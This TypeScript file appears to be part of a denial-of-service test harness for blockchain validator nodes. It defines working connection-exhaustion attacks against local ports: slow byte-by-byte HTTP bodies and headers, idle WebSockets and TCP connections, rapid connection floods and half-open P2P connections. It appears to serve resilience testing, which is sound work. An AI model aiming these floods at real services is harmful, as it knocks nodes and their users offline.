import { connect, type Socket } from 'node:net'
import { ADDRESS, manyAddresses } from '../processes/addresses.ts'
import { single } from '../processes/http-flood.ts'
import { type Attack, lanes, paced, type Stage, untilAborted } from './attack.ts'

/** More than a node accepts by default. */
const CONNECTIONS = 1_030
const DRIP_MS = 1_000
/** More than a node has slots for handshakes. */
const HANDSHAKES = 40

const POST_HEAD = 'POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n'
const UPGRADE =
  'GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n'

interface Held {
  /** Ports to attack. Default: the RPC port of the first node. */
  readonly portsOf?: (targets: Stage['targets']) => readonly number[]
  /** Pause before a closed connection is opened again, so that a node that closes at once does not cause an endless loop. */
  readonly againMs?: number
  /** Connections per port. */
  readonly connections?: number
  readonly addressOf: (index: number) => string
  /** Sent at once. */
  readonly first: string
  /** Sent repeatedly after that; empty sends nothing. */
  readonly drip: string
}

/** Opens connections and holds them; reopens closed ones. */
const hold =
  ({ portsOf = firstRpc, connections = CONNECTIONS, againMs = 200, addressOf, first, drip }: Held) =>
  async ({ targets, signal, tally }: Stage): Promise<() => Promise<void>> => {
    const ports = portsOf(targets)
    const open = new Set<Socket>()
    const enter = (index: number): Promise<void> =>
      new Promise((resolve) => {
        const socket = connect({ host: '127.0.0.1', port: ports[index % ports.length]!, localAddress: addressOf(index) })
        let timer: NodeJS.Timeout | undefined
        socket.setNoDelay(true)
        socket.on('connect', () => {
          open.add(socket)
          tally.add('opened')
          socket.write(first)
          if (drip !== '') timer = setInterval(() => socket.write(drip), DRIP_MS)
        })
        socket.on('data', (data: Buffer) => {
          const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1', 0, 16))?.[1]
          if (status !== undefined && status !== '101') tally.add(`HTTP ${status}`)
        })
        socket.on('error', (failure: NodeJS.ErrnoException) => {
          if (!signal.aborted) tally.add(failure.code ?? 'broken')
        })
        socket.on('close', () => {
          clearInterval(timer)
          if (open.delete(socket) && !signal.aborted) tally.add('closed by the node')
          setTimeout(() => resolve(), againMs)
        })
      })
    return async () => {
      void lanes(connections * ports.length, signal, enter)
      await untilAborted(signal)
      tally.add('held at the end', open.size)
    }
  }

const firstRpc = ([first]: Stage['targets']): readonly number[] => [first!.rpcPort]
const one = (): string => ADDRESS.attacker

export const connectionAttacks: readonly Attack[] = [
  {
    name: 'bodies that come byte by byte',
    what: `${CONNECTIONS} connections to one validator from one address, each with a POST whose body of 1 MB comes at a byte a second; closed ones are opened again`,
    front: 'defaults',
    inShort: true,
    prepare: hold({ addressOf: one, first: `${POST_HEAD}Content-Length: 1000000\r\n\r\n{`, drip: ' ' }),
  },
  {
    name: 'bodies that come byte by byte, from 250 addresses',
    what: 'the same from 250 addresses',
    front: 'defaults',
    // Each address holds four connections, as an honest one may too: there may be no room for a new client until the time limit for a body
    // is over.
    reads: false,
    lanes: ['far'],
    prepare: hold({
      addressOf: (i) => manyAddresses(i % 250),
      first: `${POST_HEAD}Content-Length: 1000000\r\n\r\n{`,
      drip: ' ',
    }),
  },
  {
    name: 'headers that come byte by byte',
    what: `${CONNECTIONS} connections to one validator from one address whose headers never end`,
    front: 'defaults',
    prepare: hold({ addressOf: one, first: POST_HEAD, drip: 'X: y\r\n' }),
  },
  {
    name: 'idle WebSockets',
    what: `${CONNECTIONS} WebSockets to one validator from one address that say nothing and answer no ping`,
    front: 'defaults',
    prepare: hold({ addressOf: one, first: UPGRADE, drip: '' }),
  },
  {
    name: 'idle connections',
    what: `${CONNECTIONS} TCP connections to one validator from one address that send nothing`,
    front: 'defaults',
    prepare: hold({ addressOf: one, first: '', drip: '' }),
  },
  {
    name: 'a connection for each request',
    what: '2,000 connections a second to 2 validators, each for one request',
    front: 'defaults',
    prepare: async ({ targets, signal, tally }) => {
      const body = single('eth_blockNumber', [])
      const text = `${POST_HEAD}Connection: close\r\nContent-Length: ${body.length}\r\n\r\n${body}`
      return () =>
        paced(2_000, signal, (i) => {
          const socket = connect({
            host: '127.0.0.1',
            port: targets[i % targets.length]!.rpcPort,
            localAddress: ADDRESS.attacker,
          })
          socket.on('connect', () => socket.write(text))
          socket.on('data', (data: Buffer) => {
            const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1', 0, 16))?.[1]
            if (status !== undefined) tally.add(status === '200' ? 'answered' : `HTTP ${status}`)
          })
          socket.on('error', (failure: NodeJS.ErrnoException) => {
            if (!signal.aborted) tally.add(failure.code ?? 'broken')
          })
        })
    },
  },
  {
    name: 'half-open connections to the port for peers',
    what: `${HANDSHAKES} connections to the P2P port of each validator from one address that begin no handshake, opened again when they are closed, while the fourth validator is started anew`,
    front: 'network',
    restartsFourth: true,
    prepare: hold({
      portsOf: (targets) => targets.map(({ p2pPort }) => p2pPort),
      connections: HANDSHAKES,
      againMs: 20,
      ...{ addressOf: () => ADDRESS.stranger, first: '', drip: '' },
    }),
  },
]
